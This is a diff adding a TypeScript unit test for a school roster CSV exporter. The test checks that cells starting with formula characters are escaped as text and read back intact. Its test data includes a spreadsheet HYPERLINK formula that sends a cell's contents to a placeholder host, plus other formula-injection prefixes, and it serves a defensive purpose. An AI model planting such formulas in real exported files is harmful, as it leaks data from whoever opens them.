@@ -4,6 +4,8 @@ import { ROLES } from '../../src/core/vocabulary.js';
 import { cellsInOrder, ROSTER_ROLE_NAMES, rosterRowsOf, type ExportPerson, type ExportSchool } from '../../src/roster/export-roster.js';
 import { roleOfName, ROSTER_COLUMNS, type RosterColumn } from '../../src/roster/roster-columns.js';
 import { validateRoster } from '../../src/roster/validate-roster.js';
+import { writeRosterFile } from '../../src/roster/write-roster-file.js';
+import { readRosterFile } from '../../src/roster/read-roster-file.js';
 
 
 const school: ExportSchool = {
@@ -57,5 +59,22 @@ describe('roster export', () => {
     expect(cellsInOrder(rows[0]!)).toHaveLength(Object.keys(ROSTER_COLUMNS).length);
     const valid = validateRoster(rows.map((cells, i) => ({ rowNumber: i + 2, cells: cells as Record<RosterColumn, string> })));
     expect(valid.ok).toBe(true);
+  });
+});
+
+describe('roster CSV and formulas', () => {
+  it('a cell that Excel would run as a formula is written as text, and reads back unchanged', async () => {
+    const hostile = ['=HYPERLINK("http://x.example/?"&A1,"Bấm vào")', '+84912345678', '-1+2', '@SUM(A1:A9)'];
+    const row = cellsInOrder({ ...rosterRowsOf([{ code: 'THCS-TP-099', fullName: 'Nguyễn Văn A', phone: '0912345678', email: null, subjects: ['Toán'], roles: [{ role: 'TEACHER', school, group: 'Tổ Toán – Tin', subgroup: 'Toán' }] }])[0]!, fullName: hostile[0]!, email: hostile[3]!, subjects: hostile[2]!, phone: hostile[1]! });
+    const csv = await writeRosterFile([row], 'csv');
+    const lines = csv.toString('utf8').split('\r\n');
+    // No field of the data line starts with a formula character once the CSV quoting is removed.
+    const fields = lines[1]!.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((f) => f.replace(/,$/, '').replace(/^"|"$/g, '').replace(/""/g, '"'));
+    for (const f of fields) expect(f).not.toMatch(/^[=+\-@]/);
+    expect(fields).toContain(`'${hostile[0]}`);
+    const read = await readRosterFile(csv, 'csv');
+    expect(read.ok).toBe(true);
+    if (!read.ok) return;
+    expect(read.rows[0]!.cells).toMatchObject({ fullName: hostile[0], phone: hostile[1], subjects: hostile[2], email: hostile[3] });
   });
 });
